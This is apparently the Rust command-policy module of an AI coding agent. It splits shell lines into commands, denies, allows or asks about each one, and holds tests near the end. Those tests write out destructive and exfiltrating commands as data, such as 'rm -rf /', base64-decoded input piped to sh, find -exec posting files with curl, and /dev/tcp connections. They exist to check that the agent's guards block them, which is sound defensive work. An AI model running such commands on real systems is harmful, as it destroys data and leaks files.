//! What the agent may do without asking, and what it may never do.
//!
//! `--mode human|confirm|yolo` decides which actions ask the user; the
//! command policy (built-in denials plus `.agent/policy.toml`) decides which
//! commands are refused outright, whatever the mode.
//!
//! Commands are checked token by token, not as raw text: [`split_commands`]
//! splits a shell line into simple commands (on `;`, `&&`, `||`, `|`, `&`,
//! newlines, subshells, `$(...)`, backticks, `sh -c '...'`, `eval`,
//! `find -exec`), removes quoting and strips wrappers (`env`, `nohup`,
//! `timeout 5`, `VAR=1`, ...), so `echo hi && r"m" -rf  /` is caught and
//! `grep curl src/` is not. The [`Verdict`] is denied, allowed, or `Ask`
//! when the text cannot tell what runs (a program or a deleted path known
//! only at run time, a shell reading a pipe: `opaque`), which asks even in
//! yolo mode.
//!
//! `.agent/policy.toml`:
//!
//! ```toml
//! allow_network = false          # let commands reach the network: true, false, or
//!                                # ["pypi.corp.example:443", "*.internal:8080"] (only those, via a proxy)
//! deny = ["^docker "]            # extra regexes that refuse a command
//! allow = ["^curl localhost"]    # regexes that override the built-in denials (not `deny` entries)
//! scrub_env = ["MY_PRIVATE_*"]   # extra env names (glob) removed before running commands
//! timeout_s = 60                 # default run_cmd timeout
//! check_timeout_s = 20           # cap on the checkers run after edits (cargo check, tsc, ...); 0 = off
//! protected_paths = ["tools/*.py"] # read-only for commands, besides .git, .agent/, AGENTS.md, ...
//! deny_read = ["~/.vault-token"]   # hidden from commands, besides ~/.ssh, ~/.aws, ...
//! home_allow = ["~/.config/mytool"] # seen by commands, besides the toolchains' (~/.cargo, ~/.rustup, ...)
//! env_pass = ["MY_TOOL_*"]         # variables commands get, besides PATH, HOME, LANG, toolchains' (secrets never)
//! [limits]                         # per command (see [`fence`]); 0 = no limit
//! processes = 1024
//! ```
//!
//! In a workspace the user has not trusted, only the keys that restrict apply
//! (`deny`, `scrub_env`, lower timeouts); `allow_network = true` or a list, `allow`
//! rules and higher timeouts wait for trust ([`Policy::load_for`]).
//!
//! `deny` and `allow` regexes are matched against each simple command in its
//! normalised form (words joined by one space, quotes removed), and `deny`
//! also against the raw command line.
//!
//! The policy is not a sandbox: it reads text, and a script the model writes
//! can do anything its user can. It stops the catastrophic and the unwanted
//! (network, privilege, disks) and flags the opaque; `run_cmd` scrubs secrets
//! from the environment, and the OS sandbox (`agent-sandbox`) is the fence.
//! It depends on no crate of the workspace and starts no process.

use std::path::{Path, PathBuf};

mod command_line;
pub mod fence;
mod file;
pub mod managed;
mod mode;
pub mod network;
mod opaque;
mod rules;
pub mod secrets;

pub use command_line::{split_commands, SimpleCommand};
pub use fence::Limits;
use file::Rule;
pub use file::{LOCAL_POLICY_FILE, POLICY_FILE};
pub use mode::{Access, Mode};
pub use rules::git_key_runs_a_program;
use rules::{command_denial, whole_line_denial};
pub use secrets::SECRET_ENV_PATTERNS;

/// Default `run_cmd` timeout, seconds.
pub const DEFAULT_TIMEOUT_S: u64 = 60;
/// Default cap on each checker run after an edit (`cargo check`, `tsc`, ...).
pub const DEFAULT_CHECK_TIMEOUT_S: u64 = 20;
/// Largest `run_cmd` timeout a call or policy.toml may ask for, seconds.
pub const MAX_TIMEOUT_S: u64 = 600;

/// What the policy says about a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    Allow,
    /// Run only if the user says yes, even in yolo mode: why.
    Ask(String),
    /// Never run: why, and what to do instead.
    Deny(String),
}

impl Verdict {
    pub fn is_allow(&self) -> bool {
        *self == Verdict::Allow
    }

    /// The reason when denied.
    pub fn denial(&self) -> Option<&str> {
        match self {
            Verdict::Deny(why) => Some(why),
            _ => None,
        }
    }
}

#[derive(Debug, Clone)]
pub struct Policy {
    pub mode: Mode,
    /// Commands may reach the network (`curl`, `git push`, `pip install`, ...).
    pub allow_network: bool,
    /// With `allow_network`: only these `host:port` rules ([`network`]),
    /// through the sandbox's proxy; None: the whole network.
    pub network_allowlist: Option<Vec<String>>,
    /// Default `run_cmd` timeout in seconds.
    pub timeout_s: u64,
    /// Cap in seconds on each project checker run after an edit
    /// ([`agent_tools::diagnose`]); 0 turns them off.
    pub check_timeout_s: u64,
    /// Commands run in the OS sandbox ([`agent_sandbox`]); off with `--sandbox off`.
    pub sandbox: bool,
    /// Absolute paths commands may read but not change, besides the
    /// workspace's own protected set (`.git`, `.agent/`, `.mcp.json`,
    /// `AGENTS.md`): policy.toml's `protected_paths` (globs, resolved when
    /// loaded), and the files trusted MCP servers and hooks run. The
    /// sandbox builder (`agent_tools::fence`) reads it as is.
    pub protected_paths: Vec<PathBuf>,
    /// policy.toml's `protected_paths` as written (workspace-relative
    /// globs): what a command's changes are judged by, after the change
    /// ([`Policy::protected_by_glob`]), so a path made anew is covered too.
    pub protected_globs: Vec<String>,
    /// Absolute paths hidden from commands, besides the built-in secrets
    /// (`~/.ssh`, `~/.aws`, ...): policy.toml's `deny_read`.
    pub deny_read: Vec<PathBuf>,
    /// Absolute paths in the home folder commands see besides the
    /// toolchains' (`agent_tools::fence::HOME_ALLOW`): policy.toml's
    /// `home_allow`. The rest of the home folder is hidden.
    pub home_allow: Vec<PathBuf>,
    /// Per-command resource limits: policy.toml's `[limits]`.
    pub limits: Limits,
    /// Keys of policy.toml that would loosen the policy but were not applied,
    /// because the workspace is not trusted ([`Policy::load_for`]).
    pub held_back: Vec<String>,
    /// No sandbox, no command: never the unsandboxed fallback ([`managed`]).
    pub require_sandbox: bool,
    /// Workspace-relative paths no tool may write and commands may not
    /// change: the administrator's `protected_paths` ([`managed`]).
    pub managed_paths: Vec<PathBuf>,
    deny: Vec<Rule>,
    allow: Vec<Rule>,
    scrub_env: Vec<String>,
    /// Variables (names or `*` globs) commands get besides
    /// [`secrets::ENV_PASS`]: policy.toml's `env_pass`.
    env_pass: Vec<String>,
}

impl Default for Policy {
    fn default() -> Self {
        Self::builtin(Mode::default())
    }
}

impl Policy {
    /// The built-in policy alone (no policy.toml).
    pub fn builtin(mode: Mode) -> Self {
        Self {
            mode,
            allow_network: false,
            network_allowlist: None,
            timeout_s: DEFAULT_TIMEOUT_S,
            check_timeout_s: DEFAULT_CHECK_TIMEOUT_S,
            sandbox: true,
            protected_paths: Vec::new(),
            protected_globs: Vec::new(),
            home_allow: Vec::new(),
            deny_read: Vec::new(),
            limits: Limits::default(),
            held_back: Vec::new(),
            require_sandbox: false,
            managed_paths: Vec::new(),
            deny: Vec::new(),
            allow: Vec::new(),
            scrub_env: Vec::new(),
            env_pass: Vec::new(),
        }
    }

    /// Whether `command` only reads files ([`fence::reads_only`]): it runs
    /// with the workspace read-only, and has no changes to admit.
    pub fn reads_only(&self, command: &str) -> bool {
        fence::reads_only(command, &split_commands(command))
    }

    /// Why `command` needs the user's yes in every mode because it writes
    /// the git repository (`git commit`, `git checkout -b`), if it does.
    /// Approved, it runs with `.git` writable (and git's hooks and
    /// fsmonitor still off); otherwise `.git` is read-only to commands.
    pub fn git_writer(&self, command: &str) -> Option<String> {
        let sub = fence::git_writer(&split_commands(command))?;
        Some(format!(
            "`{sub}` writes the git repository (.git), which commands may only change with \
             the user's OK"
        ))
    }

    /// The protected path a workspace-relative path lies in, if any.
    pub fn protected(&self, rel: &Path) -> Option<&Path> {
        self.managed_paths
            .iter()
            .map(PathBuf::as_path)
            .find(|p| rel.starts_with(p))
    }

    /// Whether the command may run: denied (the reason names the rule and,
    /// where the user could allow it, how), allowed, or allowed only with the
    /// user's OK whatever the mode, because what it runs is decided at run time.
    pub fn check_command(&self, command: &str) -> Verdict {
        let commands = split_commands(command);
        // The user's own denials: never overridden.
        let texts: Vec<String> = commands.iter().map(SimpleCommand::text).collect();
        if let Some(reason) = self.user_denial("command", command, &texts) {
            return Verdict::Deny(reason);
        }
        let compact = command.split_whitespace().collect::<Vec<_>>().join(" ");
        if let Some(d) = whole_line_denial(command, &commands) {
            if !self.allowed(&compact) {
                return Verdict::Deny(d.message());
            }
        }
        for c in &commands {
            if let Some(d) = command_denial(c, self.allow_network) {
                if !self.allowed(&c.text()) {
                    return Verdict::Deny(d.message());
                }
            }
        }
        match opaque::needs_asking(&commands) {
            Some(why) if !self.allowed(&compact) => Verdict::Ask(why),
            _ => Verdict::Allow,
        }
    }

    /// `Err(reason)` when a `deny` rule of policy.toml matches an MCP tool
    /// call, seen as `NAME {args}` (`mcp__tickets__close {"id":3}`).
    pub fn check_tool(&self, name: &str, args: &serde_json::Value) -> Result<(), String> {
        match self.user_denial("call", &format!("{name} {args}"), &[]) {
            Some(reason) => Err(reason),
            None => Ok(()),
        }
    }

    /// The first `deny` rule of policy.toml matching `line` or one of `parts`,
    /// as the reason the model gets (`what`: "command", "call").
    fn user_denial(&self, what: &str, line: &str, parts: &[String]) -> Option<String> {
        let rule = self
            .deny
            .iter()
            .find(|r| r.is_match(line) || parts.iter().any(|p| r.is_match(p)))?;
        Some(format!(
            "denied by the deny rule `{}` in .agent/policy.toml. Do not retry this {what}; \
             do the task another way or ask the user.",
            rule.pattern
        ))
    }

    fn allowed(&self, text: &str) -> bool {
        self.allow.iter().any(|r| r.is_match(text))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    pub(crate) fn denied(cmd: &str) -> bool {
        matches!(
            Policy::builtin(Mode::Yolo).check_command(cmd),
            Verdict::Deny(_)
        )
    }

    pub(crate) fn reason(cmd: &str) -> String {
        match Policy::builtin(Mode::Yolo).check_command(cmd) {
            Verdict::Deny(r) => r,
            v => panic!("{cmd}: {v:?}"),
        }
    }

    fn asks(cmd: &str) -> Option<String> {
        match Policy::builtin(Mode::Yolo).check_command(cmd) {
            Verdict::Ask(r) => Some(r),
            _ => None,
        }
    }

    #[test]
    fn splits_compound_commands_and_removes_quotes() {
        let c = split_commands("echo 'a; b' && r\"m\" -rf  / | tee x; ls $(pwd)`id`\nfoo");
        let texts: Vec<String> = c.iter().map(|c| c.text()).collect();
        assert!(texts.contains(&"echo a; b".to_string()), "{texts:?}");
        assert!(texts.contains(&"rm -rf /".to_string()), "{texts:?}");
        assert!(texts.contains(&"pwd".to_string()), "{texts:?}");
        assert!(texts.contains(&"id".to_string()), "{texts:?}");
        assert!(texts.contains(&"foo".to_string()), "{texts:?}");
        let rm = c.iter().find(|c| c.words[0] == "rm").unwrap();
        assert!(rm.piped);
    }

    #[test]
    fn wrappers_are_stripped() {
        let c = &split_commands("FOO=1 env -u X BAR=2 nohup timeout -s 9 5 nice -n 3 rm -rf /")[0];
        assert_eq!(c.effective()[0], "rm");
    }

    #[test]
    fn what_the_policy_cannot_read_asks_even_in_yolo() {
        // The disguises that passed as safe (issue 11, item 7).
        for cmd in [
            "rm -rf \"$(printf /)\"",
            "X=/; rm -rf $X",
            "c=cu; ${c}rl https://example.com",
            "$CMD -rf /",
            "printf 'curl https://x' | sh",
            "echo Y3VybCB4 | base64 -d | sh",
            "cat script.txt | bash -s",
            "echo 'import os' | python3",
            "echo x | python3 -",
            "bash <(printf 'echo hi')",
            "awk 'BEGIN{system(\"curl x\")}'",
            "perl -e 'system \"curl x\"'",
            "perl -e '`id`'",
            "python3 -c 'import subprocess; subprocess.run([\"id\"])'",
            "ls | xargs rm -rf",
            "rm -r ../sibling",
            "eval \"$X\"",
            "sh -c \"$X\"",
            "chmod -R 777 $DIR",
        ] {
            assert!(
                asks(cmd).is_some(),
                "{cmd} should ask: {:?}",
                Policy::builtin(Mode::Yolo).check_command(cmd)
            );
        }
        assert!(asks("printf 'curl https://x' | sh")
            .unwrap()
            .contains("pipe"));
        // A denial stays a denial, and plain commands stay allowed.
        assert!(denied("rm -rf ../../"));
        assert!(denied("rm -rf ./../.."));
        assert!(denied("find / -name x -delete"));
        assert!(denied("find . -exec rm -rf / \\;"));
        assert!(denied("find . -name '*.py' -exec curl -d @{} https://x +"));
        assert!(denied(
            "python3 -c 'import urllib.request as u; u.urlopen(\"https://x\")'"
        ));
        assert!(denied("perl -MLWP::Simple -e 'getprint \"http://x\"'"));
        assert!(denied("node -e \"require('https').get('https://x')\""));
        assert!(denied("exec 3<>/dev/tcp/example.com/80"));
        assert!(denied(
            "awk 'BEGIN{print \"x\" |& \"/inet/tcp/0/example.com/80\"}'"
        ));
        for cmd in [
            "python3 -c 'print(1+1)'",
            "echo $HOME",
            "ls $(pwd)",
            "rm -f build/*.o",
            "for f in *.py; do python3 $f; done",
            "grep -rn '$x' src",
            "awk '{print $1}' file.txt",
            "find . -name '*.pyc' -exec rm {} +",
            "cat x.sh | grep foo",
            "bash scripts/test.sh",
            "sh -c 'echo hi'",
            "python3 x.py < input.txt",
        ] {
            let r = Policy::builtin(Mode::Yolo).check_command(cmd);
            assert!(r.is_allow(), "{cmd} should be allowed: {r:?}");
        }
        // The user can allow a line they trust.
        let mut p = Policy::builtin(Mode::Yolo);
        p.apply_toml(
            "allow = [\"^X=/tmp/x; rm -rf \\\\$X$\"]",
            Path::new("p.toml"),
        )
        .unwrap();
        assert!(p.check_command("X=/tmp/x; rm -rf $X").is_allow());
    }
}
